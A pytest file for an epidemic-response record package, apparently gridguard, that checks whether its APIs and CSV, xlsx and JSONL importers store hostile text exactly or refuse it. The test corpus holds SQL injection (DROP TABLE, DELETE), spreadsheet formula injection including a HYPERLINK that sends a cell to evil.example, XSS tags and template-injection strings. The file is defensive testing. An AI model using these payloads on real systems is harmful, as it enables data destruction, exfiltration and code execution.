"""Hostile input: every text field of every importer and API either keeps it as text or refuses it.

The corpus holds SQL injection, CSV/Excel formula injection, HTML and
script, template syntax, control characters, huge fields and invalid UTF-8.
Each value must come back from the store exactly as it went in, or be
refused with a :class:`~gridguard.errors.ValidationError` whose path names
the field; nothing is ever executed (the tables are all still there, and
hold what they held).
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
import sqlite3
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import attrs
import pytest

import gridguard
from gridguard import (
    Anomaly,
    Area,
    AreaLevel,
    Building,
    Campaign,
    CheckIn,
    Exposure,
    Household,
    MemberRole,
    OutbreakArea,
    Person,
    Screening,
    ServiceRequest,
    Stairwell,
    Team,
    TeamMember,
    Trip,
    ValidationError,
    Visit,
)
from gridguard.sweep import Sweep
from gridguard.targeting import import_file
from gridguard.targeting.importing import report_path_for
from gridguard.workspace import Workspace

AT = dt.datetime(2020, 1, 26, 3, tzinfo=dt.UTC)

CORPUS: list[str] = [
    "'; DROP TABLE persons; --",
    "Robert'); DELETE FROM households WHERE ('1'='1",
    '" OR 1=1 --',
    "1; UPDATE audit_log SET action='x'",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}",
    "%(name)s %s %d",
    "{0.__class__.__init__.__globals__}",
    "line\nbreak",
    "carriage\rreturn",
    "nul\x00byte",
    "bell\x07and escape\x1b[31m",
    "\u202eevil\u202c right-to-left override",
    "separator\u2028line",
    "lone surrogate \udcff from invalid UTF-8",
    "x" * 100_000,
    '😷 张三 O\'Brien "quoted" back\\slash',
]
IDS = [f"{n:02d}-{v[:12]!r}" for n, v in enumerate(CORPUS)]


def _tree() -> list[Any]:
    return [
        Area(id="zs", name="中山市", level=AreaLevel.CITY),
        Area(id="c1", name="华苑社区", level=AreaLevel.COMMUNITY, parent_id="zs"),
        Area(id="g1", name="第一网格", level=AreaLevel.GRID, parent_id="c1"),
        Building(id="b1", area_id="g1", name="3栋"),
        Stairwell(id="s1", building_id="b1", name="1梯", floors=7, doors_per_floor=2),
        Household(id="h1", stairwell_id="s1", floor=1, door="101", address="3栋101"),
        Person(id="p1", household_id="h1", name="陈建国"),
        Campaign(id="cmp", name="一级响应", scope=("c1",), start=dt.date(2020, 1, 25)),
    ]


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Workspace, Path]]:
    path = tmp_path_factory.mktemp("hostile") / "h.db"
    with gridguard.open(path) as ws:
        ws.add(_tree())
        yield ws, path


def _tables(path: Path) -> set[str]:
    conn = sqlite3.connect(path)
    try:
        return {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")}
    finally:
        conn.close()


def _members(cadre: str = "黄干部") -> list[TeamMember]:
    return [
        TeamMember(name=cadre, role=MemberRole.CADRE),
        TeamMember(name="刘医生", role=MemberRole.DOCTOR),
    ]


# Each maker builds a record with the hostile value in one field, and says where it is.
Maker = Callable[[str, str], Any]
MAKERS: dict[str, tuple[Maker, Callable[[Any], str], str]] = {
    "Area.name": (
        lambda k, v: Area(id=f"a{k}", name=v, level="grid", parent_id="c1"),
        lambda r: r.name,
        "$.name",
    ),
    "Area.code": (
        lambda k, v: Area(id=f"a{k}", name="n", level="grid", parent_id="c1", code=v),
        lambda r: r.code,
        "$.code",
    ),
    "Building.name": (
        lambda k, v: Building(id=f"b{k}", area_id="g1", name=v),
        lambda r: r.name,
        "$.name",
    ),
    "Building.compound": (
        lambda k, v: Building(id=f"b{k}", area_id="g1", name="n", compound=v),
        lambda r: r.compound,
        "$.compound",
    ),
    "Stairwell.name": (
        lambda k, v: Stairwell(id=f"s{k}", building_id="b1", name=v, floors=1, doors_per_floor=1),
        lambda r: r.name,
        "$.name",
    ),
    "Household.door": (
        lambda k, v: Household(id=f"h{k}", stairwell_id="s1", floor=1, door=v, address="a"),
        lambda r: r.door,
        "$.door",
    ),
    "Household.address": (
        lambda k, v: Household(id=f"h{k}", stairwell_id="s1", floor=1, door="1", address=v),
        lambda r: r.address,
        "$.address",
    ),
    "Person.name": (
        lambda k, v: Person(id=f"p{k}", household_id="h1", name=v),
        lambda r: r.name,
        "$.name",
    ),
    "Team.name": (
        lambda k, v: Team(id=f"t{k}", name=v, area_id="c1", members=_members()),
        lambda r: r.name,
        "$.name",
    ),
    "TeamMember.name": (
        lambda k, v: Team(id=f"t{k}", name="队", area_id="c1", members=_members(v)),
        lambda r: r.members[0].name,
        "$.name",
    ),
    "Campaign.name": (
        lambda k, v: Campaign(id=f"c{k}", name=v, scope=("c1",), start=dt.date(2020, 1, 25)),
        lambda r: r.name,
        "$.name",
    ),
    "OutbreakArea.name": (
        lambda k, v: Campaign(
            id=f"c{k}",
            name="n",
            scope=("c1",),
            start=dt.date(2020, 1, 25),
            outbreak_areas=[OutbreakArea(name=v)],
        ),
        lambda r: r.outbreak_areas[0].name,
        "$.name",
    ),
    "Visit.note": (
        lambda k, v: Visit(at=AT, household_id="h1", outcome="screened", note=v),
        lambda r: r.note,
        "$.note",
    ),
    "Trip.destination": (
        lambda k, v: Screening(at=AT, person_id="p1", trips=[Trip(destination=v)]),
        lambda r: r.trips[0].destination,
        "$.destination",
    ),
    "Exposure.note": (
        lambda k, v: Screening(
            at=AT,
            person_id="p1",
            exposures=[Exposure(kind="confirmed_case", last_contact=dt.date(2020, 1, 20), note=v)],
        ),
        lambda r: r.exposures[0].note,
        "$.note",
    ),
    "Screening.symptoms": (
        lambda k, v: Screening(at=AT, person_id="p1", symptoms=[v]),
        lambda r: r.symptoms[0] if r.symptoms else "",
        "$.symptoms",
    ),
    "Anomaly.note": (
        lambda k, v: CheckIn(
            at=AT,
            building_id="b1",
            observer_id="p1",
            status="anomalies",
            anomalies=[Anomaly(kind="stranger", note=v)],
        ),
        lambda r: r.anomalies[0].note,
        "$.note",
    ),
    "ServiceRequest.note": (
        lambda k, v: ServiceRequest(at=AT, household_id="h1", service="groceries", note=v),
        lambda r: r.note,
        "$.note",
    ),
}


def _attempt(action: Callable[..., Any], *args: Any) -> tuple[Any, ValidationError | None]:
    """``action(*args)`` and ``None``, or ``None`` and the validation error it raised."""
    try:
        return action(*args), None
    except ValidationError as exc:
        return None, exc


def _expected(field: str, value: str) -> str:
    if field == "Screening.symptoms":
        return value.strip().lower()  # symptoms are a set of lower-case words by design
    return value


@pytest.mark.parametrize("field", sorted(MAKERS))
def test_every_api_text_field_stores_hostile_text_exactly_or_refuses_it(
    store: tuple[Workspace, Path], field: str
) -> None:
    ws, path = store
    make, read, where = MAKERS[field]
    tables = _tables(path)
    outcomes: dict[str, int] = {"stored": 0, "refused": 0}
    for n, value in enumerate(CORPUS):
        key = f"{field.replace('.', '-')}-{n}"
        record, error = _attempt(make, key, value)
        if error is None:
            facts = type(record) in (Visit, Screening, CheckIn, ServiceRequest)
            _, error = _attempt(ws.record if facts else ws.add, [record])
        if error is not None:
            assert any(where in v.path for v in error.violations), (value[:30], str(error))
            assert "\udcff" not in str(error)  # the message itself can be printed
            outcomes["refused"] += 1
            continue
        stored = ws.get(type(record), str(record.id))
        assert stored == record
        assert read(stored) == _expected(field, value)
        outcomes["stored"] += 1
    assert _tables(path) == tables
    assert ws.get(Person, "p1").name == "陈建国"
    assert ws.count(Household) >= 1
    assert outcomes["stored"] > 0


def test_huge_and_binary_text_is_refused_where_it_is_bounded(store: tuple[Workspace, Path]) -> None:
    for value, rule in (("x" * 100_000, "at most"), ("nul\x00byte", "control characters")):
        with pytest.raises(ValidationError) as info:
            Visit(at=AT, household_id="h1", outcome="screened", note=value)
        (violation,) = info.value.violations
        assert violation.path == "$.note"
        assert rule in violation.rule
        with pytest.raises(ValidationError) as info:
            Person(id="px", household_id="h1", name=value)
        assert info.value.violations[0].path == "$.name"


# -- importers: the population register (CSV and xlsx) and sweep visit files ------------------

REGISTER_COLUMNS = {
    "areas": ["id", "name", "level", "parent_id", "code"],
    "buildings": ["id", "area_id", "name", "compound"],
    "stairwells": ["id", "building_id", "name", "floors", "doors_per_floor"],
    "households": ["id", "stairwell_id", "floor", "door", "address", "phone"],
    "persons": ["id", "household_id", "name", "resident_id", "phone"],
}
TEXT_COLUMNS = {
    "areas": ["name", "code"],
    "buildings": ["name", "compound"],
    "stairwells": ["name"],
    "households": ["door", "address", "phone"],
    "persons": ["name", "resident_id", "phone"],
}
BASE = {
    "areas": {"level": "grid", "parent_id": "c1", "name": "n", "code": ""},
    "buildings": {"area_id": "g1", "name": "n", "compound": ""},
    "stairwells": {"building_id": "b1", "name": "n", "floors": "1", "doors_per_floor": "1"},
    "households": {"stairwell_id": "s1", "floor": "1", "door": "1", "address": "a", "phone": ""},
    "persons": {"household_id": "h1", "name": "n", "resident_id": "", "phone": ""},
}
CLS = {
    "areas": Area,
    "buildings": Building,
    "stairwells": Stairwell,
    "households": Household,
    "persons": Person,
}
# A file cell cannot hold invalid UTF-8 once decoded: that case is a whole file below.
FILE_CORPUS = [v for v in CORPUS if "\udcff" not in v]


def _rows(kind: str, column: str) -> list[dict[str, str]]:
    rows = []
    for n, value in enumerate(FILE_CORPUS):
        row = dict(BASE[kind], id=f"{kind}-{column}-{n}")
        row[column] = value
        rows.append(row)
    return rows


def _write_csv(path: Path, kind: str, rows: list[dict[str, str]]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as handle:
        out = csv.DictWriter(handle, REGISTER_COLUMNS[kind])
        out.writeheader()
        out.writerows(rows)
    return path


def _xlsx_safe(text: str) -> str:
    """What a spreadsheet cell can hold: no control characters, at most 32,767 characters."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("?", text)[:32_000]


def _write_xlsx(path: Path, kind: str, rows: list[dict[str, str]]) -> Path:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(REGISTER_COLUMNS[kind])
    for row in rows:
        sheet.append([row[c] for c in REGISTER_COLUMNS[kind]])
        for cell in sheet[sheet.max_row]:
            cell.data_type = "s"  # a formula-looking value as the text it is, not a formula
    sheet.append([f"{kind}-formula", *["=1+1"] * (len(REGISTER_COLUMNS[kind]) - 1)])
    book.save(path)
    return path


def _start_lines(path: Path, rows: list[dict[str, str]]) -> list[int]:
    """The line each row starts on, as an editor counts lines (header: line 1).

    In a CSV file a quoted cell may hold line breaks (``\\r\\n``, ``\\r`` or
    ``\\n``), which an editor shows as lines of their own; in a workbook each
    row is one worksheet row.
    """
    if path.suffix != ".csv":
        return [n + 2 for n in range(len(rows))]
    starts, line = [], 2
    for row in rows:
        starts.append(line)
        line += 1 + sum(len(re.findall(r"\r\n|\r|\n", str(v))) for v in row.values())
    return starts


def _check_import(
    ws: Workspace, kind: str, column: str, path: Path, rows: list[dict[str, str]]
) -> None:
    result = import_file(ws, kind, path, parallel=False)
    extra = 1 if path.suffix == ".xlsx" else 0  # the formula row
    assert result.rows == len(rows) + extra
    total = result.inserted + result.updated + result.unchanged + result.rejected
    assert total == len(rows) + extra
    reported: dict[int, list[str]] = {}
    if result.report is not None:
        with open(report_path_for(path), encoding="utf-8-sig", newline="") as handle:
            for line in list(csv.reader(handle))[1:]:
                reported.setdefault(int(line[0]), []).append(line[1])
    cls = CLS[kind]
    starts = _start_lines(path, rows)
    for n, row in enumerate(rows):
        file_row = starts[n]
        found = ws.find(cls, id=row["id"])
        if found:
            stored = getattr(found[0], column)
            value = row[column]
            if column not in ("phone", "resident_id"):  # those are parsed, not kept as text
                # kept exactly (a cell's surrounding blanks may be trimmed by the reader)
                assert stored in (value, value.strip()), (value[:30], stored)
        else:
            assert file_row in reported, (row[column][:30], reported)
            assert reported[file_row], file_row


@pytest.mark.parametrize("kind", sorted(REGISTER_COLUMNS))
def test_register_import_csv_keeps_hostile_text_as_text_or_reports_the_cell(
    store: tuple[Workspace, Path], tmp_path: Path, kind: str
) -> None:
    ws, db = store
    tables = _tables(db)
    for column in TEXT_COLUMNS[kind]:
        rows = _rows(kind, column)
        path = _write_csv(tmp_path / f"{kind}-{column}.csv", kind, rows)
        _check_import(ws, kind, column, path, rows)
    assert _tables(db) == tables
    assert ws.get(Person, "p1").name == "陈建国"


@pytest.mark.parametrize("kind", ["households", "persons"])
def test_register_import_xlsx_keeps_hostile_text_as_text_or_reports_the_cell(
    store: tuple[Workspace, Path], tmp_path: Path, kind: str
) -> None:
    ws, db = store
    tables = _tables(db)
    for column in TEXT_COLUMNS[kind]:
        rows = [
            {k: _xlsx_safe(v) for k, v in dict(r, id=r["id"] + "-x").items()}
            for r in _rows(kind, column)
        ]
        path = _write_xlsx(tmp_path / f"{kind}-{column}.xlsx", kind, rows)
        _check_import(ws, kind, column, path, rows)
        # a real formula cell is never evaluated: it is refused or kept as its text
        for formula in ws.find(CLS[kind], id=f"{kind}-formula"):
            assert all(getattr(formula, c) in ("=1+1", None) for c in ("name", "door"))
    assert _tables(db) == tables
    assert ws.get(Person, "p1").name == "陈建国"


def test_a_register_file_that_is_not_utf8_is_read_or_refused_cleanly(
    store: tuple[Workspace, Path], tmp_path: Path
) -> None:
    ws, _ = store
    path = tmp_path / "broken.csv"
    path.write_bytes(b"id,household_id,name\r\nbad-utf8,h1,\xff\xfe\xc3(\x80\r\n")
    result = import_file(ws, "persons", path)  # an undecodable file is read as GB18030
    assert result.rows == 1
    stored = ws.find(Person, id="bad-utf8")
    if stored:
        stored[0].name.encode("utf-8")  # whatever it was decoded as, it is valid text now


def test_sweep_visit_files_keep_hostile_notes_as_text_or_report_the_line(
    store: tuple[Workspace, Path], tmp_path: Path
) -> None:
    ws, db = store
    tables = _tables(db)
    lines = []
    for n, value in enumerate(FILE_CORPUS):
        lines.append(
            json.dumps(
                {
                    "id": str(uuid.UUID(int=10_000 + n)),
                    "household_id": "h1",
                    "at": f"2020-01-26T10:{n:02d}:00+08:00",
                    "outcome": "screened",
                    "note": value,
                    "screenings": [
                        {
                            "person_id": "p1",
                            "symptoms": [value[:50]],
                            "trips": [{"destination": value}],
                        }
                    ],
                },
                ensure_ascii=False,
            )
        )
    path = tmp_path / "visits.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = Sweep(ws, "cmp").record_file(path)
    assert report.records == len(FILE_CORPUS)
    rejected = {e.line for e in report.errors}
    for n, value in enumerate(FILE_CORPUS):
        found = ws.find(Visit, id=str(uuid.UUID(int=10_000 + n)))
        if found:
            assert found[0].note == value
        else:
            assert n + 1 in rejected or n in rejected
            error = next(e for e in report.errors if e.line in (n, n + 1))
            assert any("note" in v.path or "destination" in v.path for v in error.violations)
    assert _tables(db) == tables
    csv_path = tmp_path / "visits.csv"
    with open(csv_path, "w", encoding="utf-8", newline="") as handle:
        out = csv.writer(handle)
        out.writerow(["household_id", "at", "outcome", "note"])
        for n, value in enumerate(FILE_CORPUS):
            out.writerow(["h1", f"2020-01-27 10:{n:02d}", "not_home", value])
    csv_report = Sweep(ws, "cmp").record_file(csv_path)
    assert csv_report.records == len(FILE_CORPUS)
    assert csv_report.accepted + len(csv_report.errors) == len(FILE_CORPUS)
    assert ws.get(Person, "p1").name == "陈建国"
    notes = {v.note for v in ws.find(Visit, outcome="not_home")}
    assert "'; DROP TABLE persons; --" in notes
    assert "=cmd|' /C calc'!A0" in notes


def test_attrs_evolve_cannot_slip_past_validation() -> None:
    person = Person(id="p", household_id="h", name="n")
    with pytest.raises(ValidationError, match=r"\$\.name"):
        attrs.evolve(person, name="x" * 1000)
